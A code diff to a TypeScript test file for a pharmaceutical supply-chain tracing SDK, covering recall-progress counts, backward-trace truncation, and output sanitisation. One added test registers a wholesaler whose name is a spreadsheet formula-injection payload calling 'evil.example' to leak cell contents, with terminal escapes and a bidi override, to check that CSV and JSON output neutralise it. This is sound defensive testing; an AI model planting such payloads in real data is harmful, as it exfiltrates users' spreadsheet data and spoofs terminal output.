@@ -10,13 +10,13 @@ import { join } from 'node:path';
 import { parse as parseCsv } from 'csv-parse/sync';
 import { packAssetId } from '@pharmatrace/custody/custody-events';
 import {
-  acknowledgeRecall, commissionPacks, dispense, ForwardTracePage, initiateRecall, issuePrescription, pack, patientPseudonym, PharmaTraceClient, receive, recallProgress,
-  recordReadings, registerBatch, registerIngredientLot, registerProduct, reportDisposal, ship, temperatureHistory, traceBackward, traceForwardPages,
-  TracedPack, writeKeyFile,
+  acknowledgeRecall, commissionPacks, dispense, ForwardTracePage, generateKeyFile, initiateRecall, issuePrescription, keySpecOf, pack, patientPseudonym, PharmaTraceClient,
+  receive, recallProgress, recordReadings, registerBatch, registerIngredientLot, registerParticipant, registerProduct, reportDisposal, ship, temperatureHistory,
+  traceBackward, traceForwardPages, TracedPack, writeKeyFile,
 } from '@pharmatrace/sdk';
 import { FORWARD_CSV_COLUMNS } from '@pharmatrace/tracing/trace-csv';
 import { startTestServer, TestServer, waitFor } from './support/test-server';
-import { createTestNetwork, refusal, TestNetwork } from './support/test-network';
+import { createTestNetwork, LICENCE, refusal, TestNetwork, uniqueGln } from './support/test-network';
 import { newGtin, newSscc, productSpec } from './support/custody-fixture';
 import { runCli } from './support/run-cli';
 
@@ -170,6 +170,7 @@ describe('tracing', () => {
     assert.deepEqual(t.shipments.map((s) => [s.id, s.via, s.state]), [[toWholesaler, palletId, 'received']]);
     assert.deepEqual(t.temperatureVerdicts.map((v) => [v.subject, v.verdict]), [[caseId, 'within_policy']]);
     assert.equal(t.state, 'active');
+    assert.equal(t.truncated, false);
 
     // The pharmacy traces the pack it supplied from its scan: three custodians, up to itself.
     const mine = await traceBackward(pharmacy, `01${gtin}21${p[4].split('.').pop()}`);
@@ -239,7 +240,9 @@ describe('tracing', () => {
 
     const all = await recallProgress(net.regulator, recall);
     const { total, ...buckets } = all.totals;
-    assert.deepEqual(buckets, { inChain: 1, inTransitToManufacturer: 4, inTransitElsewhere: 2, returned: 3, destroyed: 1, dispensedBeforeRecall: 1, other: 0 });
+    // p9–p11 never left the manufacturer: never shipped, not returned.
+    assert.deepEqual(buckets, { inChain: 1, inTransitToManufacturer: 4, inTransitElsewhere: 2, returned: 0, neverShipped: 3, destroyed: 1, dispensedBeforeRecall: 1, other: 0 });
+    assert.deepEqual([all.byCustodianOmitted, all.holdersOmitted], [0, 0]);
     assert.equal(total, 12);
     assert.deepEqual(new Set(all.byCustodian.map((c) => c.participantId)), new Set([maker.participantId, wholesaler.participantId, pharmacy.participantId]));
     assert.equal(all.elsewhereHolders, null);
@@ -270,9 +273,94 @@ describe('tracing', () => {
     const csv = await cli(['recall', 'progress', '--key', keyPath(net.regulator), '--recall', recall, '--format', 'csv']);
     assert.equal(csv.code, 0, csv.stderr);
     const rows = parseCsv(csv.stdout, { columns: true }) as Array<Record<string, string>>;
-    assert.deepEqual(rows.at(-1), { participant_id: 'TOTAL', name: recall, gln: '', inChain: '1', inTransitToManufacturer: '4', inTransitElsewhere: '2', returned: '3', destroyed: '1', dispensedBeforeRecall: '1', other: '0', total: '12' });
+    assert.deepEqual(rows.at(-1), {
+      participant_id: 'TOTAL', name: recall, gln: '', inChain: '1', inTransitToManufacturer: '4', inTransitElsewhere: '2', returned: '0', neverShipped: '3', destroyed: '1',
+      dispensedBeforeRecall: '1', other: '0', total: '12',
+    });
     const json = await cli(['recall', 'progress', '--key', keyPath(maker), '--recall', recall]);
     assert.equal(json.code, 0, json.stderr);
     assert.equal((JSON.parse(json.stdout) as { totals: { total: number } }).totals.total, 12);
+  });
+
+  it('recall progress: a direct customer’s line counts only packs the manufacturer shipped to it itself and it still holds; returned is what came back, neverShipped what never left', async () => {
+    // A wholesaler whose registered name is a spreadsheet formula with terminal escapes and a bidi override.
+    const evilName = '=HYPERLINK("http://evil.example/?leak="&A1,"open")\u001b[2J\u009b31m\u202eLtd';
+    const evilKey = generateKeyFile('evil operator', 'operator', 'tr-evil');
+    await registerParticipant(net.regulator, { id: 'tr-evil', legalName: evilName, role: 'wholesaler', gln: uniqueGln(), licence: LICENCE, keys: [keySpecOf(evilKey)] });
+    const evil = new PharmaTraceClient(server.url, evilKey);
+    const batchD = (await registerBatch(maker, { gtin, lot: 'TR-D', manufacturedOn: '2026-01-10', expiresOn: '2028-01-31', quantity: 100 }, [lotA])).id;
+    const d = (await commissionPacks(maker, batchD, 12)).serials.map((s) => packAssetId(gtin, s));
+    const [k2, k3] = [newSscc(), newSscc()];
+    await pack(maker, { id: k2, kind: 'case' }, [d[2], d[3]], { newContainer: true });
+    await pack(maker, { id: k3, kind: 'case' }, [d[7]], { newContainer: true });
+    // Straight to the pharmacy: d0, d5, d10 and the case of d2, d3. To the wholesaler: d1, d4, d6 and the case of d7.
+    await receive(pharmacy, (await ship(maker, pharmacy.participantId, [d[0], d[5], d[10], k2])).shipment);
+    await receive(wholesaler, (await ship(maker, wholesaler.participantId, [d[1], d[4], d[6], k3])).shipment);
+    await receive(evil, (await ship(maker, evil.participantId, [d[11]])).shipment);
+    // The wholesaler sells d1 to the pharmacy, the pharmacy sells d5 to the wholesaler, and the pharmacy destroys d10.
+    await receive(pharmacy, (await ship(wholesaler, pharmacy.participantId, [d[1]])).shipment);
+    await receive(wholesaler, (await ship(pharmacy, wholesaler.participantId, [d[5]])).shipment);
+    await reportDisposal(pharmacy, 'destroyed', [d[10]], 'damaged');
+    // d6 and the case come back; the manufacturer then packs d8, never shipped, into that case. d9 stays.
+    await receive(maker, (await ship(wholesaler, maker.participantId, [d[6], k3])).shipment);
+    await pack(maker, { id: k3, kind: 'case' }, [d[8]], { newContainer: false });
+    const { recall } = await initiateRecall(net.regulator, { class: 'II', reason: 'label mix-up', instructions: 'return', notifyPatients: false, batches: [batchD] });
+
+    const all = await recallProgress(net.regulator, recall);
+    const { total, ...buckets } = all.totals;
+    assert.deepEqual(buckets, { inChain: 7, inTransitToManufacturer: 0, inTransitElsewhere: 0, returned: 2, neverShipped: 2, destroyed: 1, dispensedBeforeRecall: 0, other: 0 });
+    assert.equal(total, 12);
+    const line = (p: typeof all, id: string | null) => p.byCustodian.find((c) => c.participantId === id);
+    assert.deepEqual([line(all, pharmacy.participantId)?.inChain, line(all, pharmacy.participantId)?.destroyed, line(all, wholesaler.participantId)?.inChain], [4, 1, 2], 'the regulator sees every custodian’s packs');
+
+    const own = await recallProgress(maker, recall);
+    assert.deepEqual(own.totals, all.totals, 'the same totals');
+    assert.deepEqual(
+      own.byCustodian.map((c) => [c.participantId, c.inChain, c.returned, c.neverShipped, c.destroyed, c.total]),
+      [
+        [maker.participantId, 0, 2, 2, 0, 4],
+        [pharmacy.participantId, 3, 0, 0, 0, 3], // d0, and d2, d3 in the case it shipped: not d1 (from the wholesaler), not d10 (destroyed)
+        [evil.participantId, 1, 0, 0, 0, 1],
+        [wholesaler.participantId, 1, 0, 0, 0, 1], // d4: not d5, which the pharmacy sold it
+        [null, 2, 0, 0, 1, 3],
+      ],
+      'most packs first, then by id (tr-evil before tr-wholesaler); "elsewhere" last',
+    );
+
+    // The same report through the CLI: the formula is shown as text, the escapes and the override are gone.
+    const csv = await cli(['recall', 'progress', '--key', keyPath(maker), '--recall', recall, '--format', 'csv']);
+    assert.equal(csv.code, 0, csv.stderr);
+    assert.ok(!/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(csv.stdout), 'no control or bidi character reaches the terminal');
+    const rows = parseCsv(csv.stdout, { columns: true }) as Array<Record<string, string>>;
+    const evilRow = rows.find((r) => r.participant_id === evil.participantId)!;
+    assert.equal(evilRow.name, `'${evilName.replace(/[\u001b\u009b\u202e]/g, '\uFFFD')}`);
+    assert.deepEqual([rows.at(-1)!.returned, rows.at(-1)!.neverShipped], ['2', '2']);
+    const json = await cli(['recall', 'progress', '--key', keyPath(maker), '--recall', recall]);
+    assert.equal(json.code, 0, json.stderr);
+    assert.ok(!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(json.stdout.trimEnd()), 'JSON escapes them');
+    const parsed = JSON.parse(json.stdout) as { byCustodian: Array<{ participantId: string | null; name: string }> };
+    assert.equal(parsed.byCustodian.find((c) => c.participantId === evil.participantId)?.name, evilName, 'and keeps the name exact');
+    const forward = await cli(['trace', 'forward', '--key', keyPath(net.regulator), '--batch', batchD, '--format', 'csv']);
+    assert.equal(forward.code, 0, forward.stderr);
+    const evilPack = (parseCsv(forward.stdout, { columns: true }) as Array<Record<string, string>>).find((r) => r.pack === d[11])!;
+    assert.equal(evilPack.custodian_name[0], "'");
+  });
+
+  it('backward trace: a pack shipped back and forth more than 50 times lists its first 50 shipments and says it was truncated', async () => {
+    const batchE = (await registerBatch(maker, { gtin, lot: 'TR-E', manufacturedOn: '2026-01-10', expiresOn: '2028-01-31', quantity: 10 }, [lotA])).id;
+    const [e] = (await commissionPacks(maker, batchE, 1)).serials.map((s) => packAssetId(gtin, s));
+    const shipments: string[] = [];
+    for (let i = 0; i < 26; i++) {
+      for (const [from, to] of [[maker, wholesaler], [wholesaler, maker]]) {
+        const s = (await ship(from, to.participantId, [e])).shipment;
+        await receive(to, s);
+        shipments.push(s);
+      }
+    }
+    const t = await traceBackward(net.regulator, e);
+    assert.equal(t.truncated, true);
+    assert.deepEqual(t.shipments.map((s) => s.id), shipments.slice(0, 50), 'the first 50, in order');
+    assert.equal(t.custodians.length, 51);
+    assert.equal(t.state, 'active', 'its present state all the same');
   });
 });
